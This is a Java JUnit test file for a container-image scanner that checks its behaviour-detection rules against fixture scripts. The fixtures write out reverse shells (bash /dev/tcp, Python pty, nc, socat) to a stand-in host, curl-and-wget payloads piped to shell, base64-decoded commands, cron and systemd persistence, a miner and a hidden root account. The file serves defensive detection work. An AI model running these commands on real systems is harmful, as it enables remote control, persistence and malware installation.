package dev.contraband.detect.behavior;

import dev.contraband.detect.Finding;
import dev.contraband.layer.Compression;
import dev.contraband.sample.ImageBuilder;
import dev.contraband.sample.ImageWriter;
import dev.contraband.sample.LayerBuilder;
import dev.contraband.sample.SampleElf;
import dev.contraband.scan.ImageReport;
import dev.contraband.scan.Scans;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.file.Path;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/** Behaviour in scripts, start-up files and the config, through the pipeline. */
class BehaviorDetectionTest {
    @TempDir
    Path tmp;

    private ImageReport scan(ImageBuilder b) throws IOException {
        ImageWriter.ociLayout(tmp.resolve("img"), "t", b.build());
        return Scans.scan("oci:" + tmp.resolve("img"));
    }

    private static List<String> rules(ImageReport r) {
        return r.findings().stream().map(f -> f.rule().id()).distinct().toList();
    }

    private static Finding first(ImageReport r, String rule) {
        return r.findings().stream().filter(f -> f.rule().id().equals(rule)).findFirst().orElseThrow(
                () -> new AssertionError(rule + " not in " + r.findings()));
    }

    @Test
    void script_downloadsPipedDecodedAndRun_eachFoundWithItsLine() throws IOException {
        String script = """
                #!/bin/bash
                # curl http://ignored.example/x | sh   (a comment)
                set -e
                curl -fsSL http://198.51.100.4/i.sh | sudo bash
                cd /tmp && wget -q http://198.51.100.4/kworker \\
                    && chmod +x kworker && ./kworker -B
                echo ZWNobyBoaQ== | base64 -d | sh
                eval "$(echo Y3VybA== | base64 --decode)"
                sh -c "$(wget -qO- http://198.51.100.4/s)"
                """;
        ImageReport r = scan(ImageBuilder.create().layer(LayerBuilder.create().file("/usr/local/bin/entry.sh", script.getBytes(), 0755)));
        assertThat(rules(r)).contains("behavior.download-piped-to-shell", "behavior.download-chmod-run", "behavior.decoded-into-shell");
        assertThat(r.findings()).filteredOn(f -> f.rule().id().equals("behavior.download-piped-to-shell"))
                .extracting(f -> ((dev.contraband.detect.Location.File) f.location()).line()).contains(4, 9).doesNotContain(2);
        assertThat(((dev.contraband.detect.Location.File) first(r, "behavior.download-chmod-run").location()).line()).isEqualTo(5);
        assertThat(r.verdict().status().id()).isEqualTo("malicious");
    }

    @Test
    void reverseShells_inScriptsAndCmd() throws IOException {
        ImageReport r = scan(ImageBuilder.create()
                .layer(LayerBuilder.create()
                        .file("/opt/a.sh", "#!/bin/sh\nbash -i >& /dev/tcp/198.51.100.9/4444 0>&1\n".getBytes(), 0755)
                        .file("/opt/b.py", "import socket,os,pty\ns=socket.socket();s.connect(('198.51.100.9',4444));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')\n")
                        .file("/opt/c.sh", "#!/bin/sh\nrm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.9 4444 > /tmp/f\n".getBytes(), 0755))
                .cmd("/bin/sh", "-c", "socat TCP:198.51.100.9:4444 EXEC:/bin/bash,pty,stderr"));
        assertThat(r.findings()).filteredOn(f -> f.rule().id().equals("behavior.reverse-shell"))
                .extracting(f -> f.path() == null ? "config" : f.path())
                .contains("/opt/a.sh", "/opt/b.py", "/opt/c.sh", "config");
        assertThat(first(r, "behavior.reverse-shell").severity().id()).isEqualTo("critical");
    }

    @Test
    void healthCheckOnDevTcp_notAReverseShell() throws IOException {
        ImageReport r = scan(ImageBuilder.create().layer(LayerBuilder.create()
                .file("/usr/local/bin/health.sh", "#!/bin/bash\nexec 3<>/dev/null\n(echo > /dev/tcp/localhost/5432) && echo up\n".getBytes(), 0755)));
        assertThat(rules(r)).doesNotContain("behavior.reverse-shell");
    }

    @Test
    void persistence_cronSystemdRcProfilePasswdSshd() throws IOException {
        ImageReport r = scan(ImageBuilder.create().layer(LayerBuilder.create()
                .file("/etc/cron.d/update", "*/5 * * * * root curl -s http://198.51.100.3/u.sh | bash\n")
                .file("/var/spool/cron/crontabs/root", "@reboot /tmp/.x/xmrig -B\n")
                .file("/etc/systemd/system/kthreadd.service", "[Service]\nExecStart=/dev/shm/kthreadd --config /dev/shm/c.json\n")
                .file("/etc/rc.local", "#!/bin/sh\nwget -q http://198.51.100.3/k -O /tmp/k && chmod +x /tmp/k && /tmp/k\n")
                .file("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/usr/sbin:/usr/sbin/nologin\nsysadm:x:0:0::/root:/bin/bash\n")
                .file("/etc/ssh/sshd_config", "PermitRootLogin yes\n#PasswordAuthentication no\n")));
        assertThat(r.findings()).filteredOn(f -> f.rule().id().equals("behavior.persistence")).extracting(Finding::path)
                .contains("/etc/cron.d/update", "/var/spool/cron/crontabs/root", "/etc/systemd/system/kthreadd.service", "/etc/rc.local");
        assertThat(first(r, "behavior.second-root-account").message()).contains("sysadm");
        assertThat(rules(r)).contains("behavior.sshd-root-password-login");
    }

    @Test
    void debianDefaults_nothing() throws IOException {
        ImageReport r = scan(ImageBuilder.create().layer(LayerBuilder.create()
                .file("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nnobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\n")
                .file("/etc/ssh/sshd_config", "#PermitRootLogin prohibit-password\nPasswordAuthentication yes\n")
                .file("/etc/cron.daily/apt-compat", "#!/bin/sh\nset -e\nif [ -d /run/systemd/system ]; then exit 0; fi\nexec /usr/lib/apt/apt.systemd.daily\n")
                .file("/etc/ssh/sshd_config.d/root.conf", "PermitRootLogin yes\nPasswordAuthentication no\n")));
        assertThat(r.findings()).isEmpty();
    }

    @Test
    void tools_lowAloneRaisedInCombination() throws IOException {
        ImageReport alone = scan(ImageBuilder.create().layer(LayerBuilder.create()
                .file("/usr/bin/tor", SampleElf.program(), 0755)));
        assertThat(first(alone, "behavior.proxy-tool").severity().id()).isEqualTo("low");
        assertThat(alone.verdict().status().id()).isEqualTo("clean");
        tmp = tmp.resolve("two");
        ImageReport combined = scan(ImageBuilder.create().layer(LayerBuilder.create()
                        .file("/usr/bin/frpc", SampleElf.program(), 0755)
                        .file("/var/lib/dpkg/status", "Package: masscan\nStatus: install ok installed\nVersion: 1\n\nPackage: bash\nStatus: install ok installed\n")));
        assertThat(combined.findings()).extracting(f -> f.rule().id()).contains("behavior.proxy-tool", "behavior.hacking-tool");
        assertThat(combined.verdict().status().id()).isEqualTo("suspicious");
        assertThat(combined.verdict().categories()).extracting(c -> c.id()).contains("proxy-avoidance", "hacking-tool");
    }

    @Test
    void history_addOfRemoteExecutableAndRunSteps() throws IOException {
        ImageReport r = scan(ImageBuilder.create()
                .layer(LayerBuilder.create().file("/usr/local/bin/agent", SampleElf.program(), 0755), Compression.GZIP,
                        "ADD https://198.51.100.8/agent /usr/local/bin/agent # buildkit")
                .layer(LayerBuilder.create().file("/x", "x"), Compression.GZIP,
                        "ADD https://example.org/app-1.2.tar.gz /opt/ # buildkit")
                .layer(LayerBuilder.create().file("/y", "y"), Compression.GZIP,
                        "/bin/sh -c curl -sL https://198.51.100.8/setup | sh"));
        assertThat(r.findings()).filteredOn(f -> f.rule().id().equals("behavior.add-remote-executable"))
                .extracting(Finding::indicator).containsExactly("https://198.51.100.8/agent");
        assertThat(rules(r)).contains("behavior.download-piped-to-shell");
    }
}
